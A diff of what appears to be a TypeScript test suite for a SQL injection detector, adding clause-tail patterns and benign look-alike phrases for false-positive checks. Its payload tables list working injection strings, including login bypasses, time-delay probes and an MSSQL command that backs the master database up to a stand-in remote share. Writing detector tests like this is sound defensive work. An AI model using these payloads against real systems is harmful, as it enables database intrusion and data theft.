@@ -39,13 +39,14 @@ const SQLI_PL1: Record<string, string[]> = {
   "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'", "'-0||'"],
   'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)', '1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) FROM DUAL--'],
   'delays with their arguments, spaced or cut': ['sleep (5)', 'SLEEP(5', 'pg_sleep(5*2)', 'benchmark(5000000,md5(1))', 'sleep(5)+1', 'randomblob(500000000/2)'],
+  "a query's tail and a condition cut at the application's quote, in SQL capitals": ['FROM termine GROUP BY tag1', 'FROM users WHERE id = 1', "something LIKE '"],
   'a number aliased and selected from a table, in capitals': ['1234 AS "foobar" FROM tablevar2=whatever', '5 AS total FROM orders'],
   'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
 const SQLI_PL2: Record<string, string[]> = {
   'condition right-hand sides': ['IS NULL', 'LIKE NULL', 'in (0,1)', ' IN (815914, 815913)\n', 'not between 1 and 2'],
-  'select-list and clause tails': ['x AS orders FROM', 'x AS `documentType` FROM', 'from `db_miwf`.`sys_refindex` limit', 'FROM termine GROUP BY tag1', 'having count > 5'],
+  'select-list and clause tails': ['x AS orders FROM', 'x AS `documentType` FROM', 'from `db_miwf`.`sys_refindex` limit', 'from termine group by tag1', 'having count > 5', 'name like \''],
   'alternating-case clause words': ['ORder by', 'ordeR by'],
   'a value that opens with a break into SQL': ["'alter a", "' union/", '" UNION A'],
   'probes that are statements without a table': ["SELECT IIF(1 > 1, 'TRUE', 'FALSE' )"],
@@ -143,7 +144,7 @@ test('benign look-alikes pass at paranoia 1 and 2 (SQL injection and XSS finding
 });
 
 test('look-alikes of the shapes that block at paranoia 1 (code, prose, probes of paranoia 2) pass at the default', () => {
-  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff', 'case when x then y', 'v := utl_http.request(url);', 'sleep (8 hours) is important', 'benchmark (2024)', 'Run the benchmark (requires Node 18)', 'sleep (7.5 hours a night)']) {
+  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff', 'case when x then y', 'v := utl_http.request(url);', 'from the group by the river', "I like '", "I LIKE '", 'sleep (8 hours) is important', 'benchmark (2024)', 'Run the benchmark (requires Node 18)', 'sleep (7.5 hours a night)']) {
     for (const r of everywhere(b)) {
       const mine = inspect(r).findings.filter((f) => f.category === 'sqli');
       assert.ok(totalScore(mine) < 5, `false positive: ${b} → ${JSON.stringify(mine)}`);
